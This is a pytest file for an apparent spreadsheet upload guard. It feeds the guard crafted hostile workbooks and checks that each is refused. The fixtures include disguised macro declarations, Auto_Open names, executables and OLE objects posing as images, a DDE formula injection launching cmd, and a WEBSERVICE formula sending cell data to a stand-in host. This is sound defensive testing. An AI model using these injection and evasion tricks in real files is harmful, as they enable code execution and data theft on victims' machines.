"""Workbooks made to get past the guard: macros under another name, links out, files inside."""

from __future__ import annotations

import io
import zipfile

import pytest

from tests.factories.core import xlsx_bytes, zip_bytes
from upaya.core import sniff
from upaya.exchange import xlsx_content, xlsx_guard
from upaya.exchange.xlsx_guard import Limits, XlsxError

MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64)


def types(*more: str) -> bytes:
    said = "".join(f'<Override PartName="/x" ContentType="{kind}"/>' for kind in (MAIN, *more))
    return f"<Types>{said}</Types>".encode()


def book(parts: dict[str, bytes] | None = None, *kinds: str, workbook: str = "") -> bytes:
    return zip_bytes(
        {
            "[Content_Types].xml": types(*kinds),
            "xl/workbook.xml": f"<workbook>{workbook}</workbook>".encode(),
            **(parts or {}),
        }
    )


def related(kind: str, target: str = "x.xml", mode: str = "") -> bytes:
    outside = f' TargetMode="{mode}"' if mode else ""
    row = f'<Relationship Id="r1" Type="{RELATIONS}/{kind}" Target="{target}"{outside}/>'
    return book({"xl/_rels/workbook.xml.rels": f"<Relationships>{row}</Relationships>".encode()})


def formula(text: str) -> bytes:
    cell = f"<worksheet><row r='1'><c r='A1'><f>{text}</f><v>1</v></c></row></worksheet>"
    return book({"xl/worksheets/sheet1.xml": cell.encode()})


def _other_letters() -> bytes:
    """The list of contents in UTF-16: no search of bytes finds a word in it."""
    inside = types("application/vnd.ms-excel.sheet.macroEnabled.main+xml").decode()
    words = f'<?xml version="1.0" encoding="UTF-16"?>{inside}'.encode("utf-16")
    return zip_bytes({"[Content_Types].xml": words, "xl/workbook.xml": b"<workbook/>"})


HOSTILE = {
    "makro": (book(None, "application/vnd.ms-office.vbaProject"), xlsx_content.MACRO),
    "makro dengan rujukan huruf": (
        book(None, "application/vnd.ms-excel.sheet.macro&#69;nabled.main+xml"),
        xlsx_content.MACRO,
    ),
    "makro dalam UTF-16": (_other_letters(), xlsx_content.MACRO),
    "makro bernama lain": (related("vbaProject", "gambar.bin"), xlsx_content.MACRO),
    "lembar makro lama": (related("xlMacrosheet"), xlsx_content.MACRO),
    "nama makro": (
        book(workbook='<definedNames><definedName name="a" xlm="1"/></definedNames>'),
        xlsx_content.MACRO,
    ),
    "nama yang berjalan sendiri": (
        book(workbook='<definedNames><definedName name="Auto_Open"/></definedNames>'),
        xlsx_content.MACRO,
    ),
    "objek OLE sebagai gambar": (book({"xl/media/image1.png": OLE}), xlsx_content.OBJECT),
    "program sebagai gambar": (book({"xl/media/a.jpeg": b"MZ" + bytes(9)}), xlsx_content.OBJECT),
    "zip di dalam": (book({"xl/media/a.emf": zip_bytes({"a": b"b"})}), xlsx_content.OBJECT),
    "OLE sebagai pengaturan pencetak": (
        book({"xl/printerSettings/printerSettings1.bin": OLE}),
        xlsx_content.OBJECT,
    ),
    "objek": (related("oleObject"), xlsx_content.OBJECT),
    "bagian tak dikenal": (book({"xl/a.dll": b"x"}), xlsx_content.ODD),
    "tautan luar": (related("externalLink"), xlsx_content.DATA),
    "sambungan data": (related("connections"), xlsx_content.DATA),
    "gambar dari luar": (
        related("image", "http://contoh.example/a.png", "External"),
        xlsx_content.DATA,
    ),
    "tema dari luar": (related("theme", "http://contoh.example", "External"), xlsx_content.DATA),
    "klik ke jaringan": (
        related("hyperlink", "\\\\contoh\\berkas", "External"),
        xlsx_content.LINK,
    ),
    "klik ke berkas": (related("hyperlink", "file:///c:/a.exe", "external"), xlsx_content.LINK),
    "DDE": (formula("cmd|'/C calc'!A0"), xlsx_content.FORMULA),
    "DDE dengan rujukan huruf": (formula("cmd&#124;'/C calc'!A0"), xlsx_content.FORMULA),
    "jaringan": (formula('WEBSERVICE("http://contoh.example/"&amp;A1)'), xlsx_content.FORMULA),
    "data langsung": (formula('RTD("a",,"b")'), xlsx_content.FORMULA),
}  # fmt: skip


@pytest.mark.parametrize("case", HOSTILE)
def test_it_is_refused_wherever_it_is_read_or_kept(case: str) -> None:
    data, words = HOSTILE[case]
    with pytest.raises(XlsxError) as read:
        xlsx_guard.check(data, Limits())
    assert str(read.value) == words
    with pytest.raises(sniff.ContentError) as kept:
        sniff.inspect("a.xlsx", data)
    assert str(kept.value) == words


@pytest.mark.parametrize(
    "part", ["xl/sharedStrings.xml", "xl/styles.xml", "xl/drawings/a.vml", "xl/Styles.XML"]
)
def test_every_part_that_a_parser_reads_was_walked(part: str) -> None:
    """A definition of entities is refused in each of them, not only in sheets."""
    bomb = b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    with pytest.raises(XlsxError, match="definisi XML"):
        xlsx_guard.check(book({part: bomb}), Limits())


@pytest.mark.parametrize(
    "data",
    [
        xlsx_bytes(),
        related("hyperlink", "https://contoh.example/a", "External"),
        related("hyperlink", "mailto:a@contoh.example", "External"),
        related("hyperlink", "Buku lain.xlsx", "External"),
        formula("SUM(A1:B2)&amp;IF(A1&gt;1,\"a|b\",'Lembar 1'!A1)"),
        book({"xl/printerSettings/printerSettings1.bin": b"\x01\x02"}),
        book(workbook='<definedNames><definedName name="_xlnm.Print_Area"/></definedNames>'),
    ],
    # Bytes as names hold the time they were made at: no two workers would have the same tests.
    ids=["biasa", "tautan", "surel", "buku lain", "rumus", "pengaturan cetak", "daerah cetak"],
)
def test_what_a_table_needs_passes(data: bytes) -> None:
    assert zipfile.is_zipfile(io.BytesIO(xlsx_guard.check(data, Limits()).data))
